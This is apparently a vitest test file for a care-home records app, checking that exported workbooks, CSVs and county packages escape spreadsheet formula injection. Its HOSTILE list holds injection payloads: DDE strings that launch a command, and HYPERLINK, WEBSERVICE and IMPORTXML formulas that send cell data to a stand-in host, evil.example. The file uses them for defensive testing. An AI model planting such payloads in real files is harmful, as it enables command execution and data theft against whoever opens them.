import ExcelJS from 'exceljs';
import * as XLSX from '@e965/xlsx';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPackage } from '../../electron/county/open-package.ts';
import { month } from '../../shared/calendar/day.ts';
import { contract } from '../../shared/contract/index.ts';
import type { FileContent } from '../../shared/contract/file.ts';
import { isFailure } from '../../shared/messages/sentence.ts';
import { unpack } from '../../shared/package/tar.ts';
import { senderOf, windowOf } from '../support/asking.ts';
import { everyRequest, type RequestFacts } from '../support/contract.ts';
import { aFullHouse, everyId, valuesByName } from '../support/full-house.ts';
import type { TestHouse } from '../support/house.ts';
import { IDENTITY, RECIPIENT } from '../support/packages.ts';
import { plant } from '../support/planted-texts.ts';
import { fieldsOf, inputsFor } from '../support/schema-walk.ts';
import { formulasInWorkbook, textsOfWorkbook, wouldRun } from './formulas-in.ts';

/** What somebody could have typed, pasted or brought in a workbook, for another person's spreadsheet to run. */
const HOSTILE = [
  '=1+1',
  '+8613800000000',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"王国庆")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd","/C calc","x")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("http://evil.example/","//a")',
  "+A1'",
] as const;

/** What the program reads as a code is spared; the centre's, the accounts' and the shifts' names are on the papers, and are not. */
const SPARED =
  /^(?:setting|parameter|holiday|attendance|correction\.field|package|resident\.certificate_no|ledger_import)/;

const said = ({ path }: RequestFacts) => path.join('.');
/** Every request whose answer holds a file, wherever in it. */
const giving = everyRequest(contract).filter(({ output }) =>
  fieldsOf(output).some(({ name }) => name === 'base64'),
);

/** A workbook in whose every text, heading, sheet and name stands a formula; people are found in it all the same. */
function hostileWorkbook(): FileContent {
  const heads = ['姓名', '性别', '身份证号', '残疾人证号', '入住日期', '床位', '备注', ...HOSTILE];
  const rows = HOSTILE.map((text, index) => [
    index % 2 === 0 ? text : '王国庆',
    index % 3 === 0 ? text : '男',
    text,
    text,
    index % 2 === 0 ? '2020-01-01' : text,
    text,
    text,
    ...HOSTILE,
  ]);
  const sheet = XLSX.utils.aoa_to_sheet([heads, ...rows]);
  const bytes = XLSX.write(
    {
      SheetNames: ['=入住人员', '=1+1'],
      Sheets: { '=入住人员': sheet, '=1+1': XLSX.utils.aoa_to_sheet([['=1']]) },
    },
    { type: 'buffer', bookType: 'xlsx' },
  ) as Buffer;
  return { name: "=cmd|' calc'!A0.xlsx", base64: bytes.toString('base64') };
}

/** The house in November, with a workbook imported, October ready to go up, and a formula in every text of the database. */
async function aPlantedHouse(folder: string) {
  const house = await aFullHouse(folder);
  const [director, clerk] = [await house.as('director'), await house.as('clerk')];
  const { id } = await director.ledger.open({ file: hostileWorkbook(), job: 'import-of-a-test' });
  await director.ledger.preview({ id });
  await director.ledger.commit({ id, job: 'import-of-a-test', undecided: 'provisional' });
  for (const { id: run } of (await clerk.payroll.month({ month: month('2026-10') })).runs) {
    await director.payroll.review({ id: run });
    await director.payroll.lock({ id: run });
  }
  await director.package.setCountyKey({ recipient: RECIPIENT });
  // A package refuses signs that are not seen, and a bed of more than twenty: with them no month would go up to be looked at.
  const seen = HOSTILE.filter((text) => !/\p{Cf}/u.test(text));
  const places = plant(house.raw, seen, SPARED);
  plant(
    house.raw,
    seen.filter(({ length }) => length < 20),
    /^(?!bed\.label$)/,
  );
  return { house, places };
}

type File = FileContent & { readonly request: string };

/** Sends every request that gives a file, with everything that the house has for it. */
async function everyFile(house: TestHouse): Promise<{ files: File[]; silent: string[] }> {
  const files: File[] = [];
  const answered = new Set<string>();
  // Twice: what needs a key that another request makes answers the second time.
  for (const request of [...giving, ...giving]) {
    if (answered.has(said(request))) continue;
    const ids = everyId(house);
    const known = (name: string) =>
      valuesByName[name] ?? (/(?:^id|Id|^of|^run)$/.test(name) ? ids : undefined);
    const send = (await windowOf(house, senderOf(request)))(request.path);
    for (const input of inputsFor(request.input, known)) {
      const answer = await send(input).catch((error: unknown) => {
        if (isFailure(error) && error.code !== 'UNEXPECTED') return null;
        throw error;
      });
      for (const file of filesIn(answer)) files.push({ ...file, request: said(request) });
    }
    if (files.at(-1)?.request === said(request)) answered.add(said(request));
  }
  return { files, silent: giving.map(said).filter((name) => !answered.has(name)) };
}

function filesIn(answer: unknown): FileContent[] {
  if (typeof answer !== 'object' || answer === null) return [];
  if ('base64' in answer && 'name' in answer) return [answer as FileContent];
  return Object.values(answer).flatMap(filesIn);
}

/** By the end of its name: what of a file a spreadsheet would run. What no person opens in a spreadsheet holds nothing to run. */
const checks: Record<string, (bytes: Uint8Array) => Promise<readonly string[]>> = {
  xlsx: formulasInWorkbook,
  async csv(bytes) {
    const cells = new TextDecoder('utf-8', { fatal: true }).decode(bytes).split(/[\n,;\t]/);
    return cells.map((cell) => cell.replace(/^"/, '')).filter(wouldRun);
  },
  /** What the county makes tables of: every value of every line. */
  async tyx(bytes) {
    const entries = unpack(await openPackage(bytes, [IDENTITY]));
    const lines = entries
      .filter(({ name }) => name.endsWith('.ndjson'))
      .flatMap(({ data }) => new TextDecoder().decode(data).trimEnd().split('\n'))
      .filter((line) => line !== '');
    return lines.flatMap((line) =>
      Object.values(JSON.parse(line) as Record<string, unknown>).filter(
        (value): value is string => typeof value === 'string' && /^[=+\-@]/.test(value),
      ),
    );
  },
  enrol: async () => [],
  rotate: async () => [],
  sm2: async () => [],
  complaint: async () => [],
};

const bytesOf = ({ base64 }: FileContent) => new Uint8Array(Buffer.from(base64, 'base64'));
const endOf = ({ name }: FileContent) => name.split('.').at(-1) ?? '';

describe('every file that a request of the contract answers, from a house with a formula in every text', () => {
  const folder = mkdtempSync(join(tmpdir(), 'nuantuo-files-'));
  let house: TestHouse | undefined;
  let places: string[] = [];
  let files: File[] = [];
  let silent: string[] = [];
  beforeAll(async () => {
    ({ house, places } = await aPlantedHouse(folder));
    ({ files, silent } = await everyFile(house));
  }, 300_000);
  afterAll(() => {
    house?.house.lock();
    rmSync(folder, { recursive: true, force: true });
  });

  it('was asked for by every request that answers one, and each answered', () => {
    expect(giving.length).toBeGreaterThan(8);
    expect(silent).toEqual([]);
    expect(places.length).toBeGreaterThan(25);
    expect(house?.faults).toEqual([]);
  });

  it('is of a kind whose cells are looked at here', () => {
    const unknown = files.filter((file) => !Object.hasOwn(checks, endOf(file)));
    expect(unknown.map(({ request, name }) => `${request}: ${name}`)).toEqual([]);
  });

  it('holds no cell that a spreadsheet would take for a formula', async () => {
    const found: string[] = [];
    for (const file of files)
      for (const place of (await checks[endOf(file)]?.(bytesOf(file))) ?? [])
        found.push(`${file.request} ${file.name} ${place}`);
    expect(found).toEqual([]);
  });

  it('has a name that is no formula when a list of files is made of it', () => {
    expect(
      files.filter(({ name }) => wouldRun(name)).map(({ request, name }) => `${request}: ${name}`),
    ).toEqual([]);
  });

  it('shows the hostile texts behind an apostrophe: they were there to be found', async () => {
    const texts = new Set<string>();
    for (const file of files.filter((one) => endOf(one) === 'xlsx'))
      for (const text of await textsOfWorkbook(bytesOf(file))) texts.add(text);
    const shown = HOSTILE.filter((hostile) =>
      [...texts].some((text) => text.startsWith("'") && text.includes(hostile.trim())),
    );
    expect(shown.length).toBeGreaterThan(HOSTILE.length - 4);
  });
});

describe('the look at a workbook', () => {
  it('finds every hostile text, formula and link that a careless writer lets out', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('=一');
    for (const text of HOSTILE) sheet.addRow([text]);
    sheet.addRow([
      { formula: 'HYPERLINK("http://x","y")', result: 'y' },
      { text: 'x', hyperlink: 'http://x' },
    ]);
    sheet.addRow([{ formula: 'SUM(A1:B9)', result: 1 }]);
    sheet.getCell('C1').dataValidation = { type: 'list', formulae: ['"a,b"'] };
    book.definedNames.add('一!$A$1', '网址');
    const found = await formulasInWorkbook(new Uint8Array(await book.xlsx.writeBuffer()));
    for (const [index, text] of HOSTILE.entries())
      expect(
        found.some((place) => place.startsWith(`xl/worksheets/sheet1.xml A${index + 1}: `)),
        JSON.stringify(text),
      ).toBe(true);
    for (const also of [
      'HYPERLINK(',
      'SUM(A1:B9)',
      ': hyperlink',
      ': dataValidation',
      'sheet1.xml.rels',
      '网址',
      '=一',
    ])
      expect(
        found.some((place) => place.includes(also)),
        also,
      ).toBe(true);
  });

  it('lets our own sums, marks, numbers and names pass', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('一');
    for (const cell of ['-', '+', '王国庆', "'=1+1", -3.5, '411799198001010010']) sheet.addRow([cell]);
    sheet.addRow([{ formula: 'SUM(A5:A5)', result: -3.5 }]);
    expect(await formulasInWorkbook(new Uint8Array(await book.xlsx.writeBuffer()))).toEqual([]);
  });
});
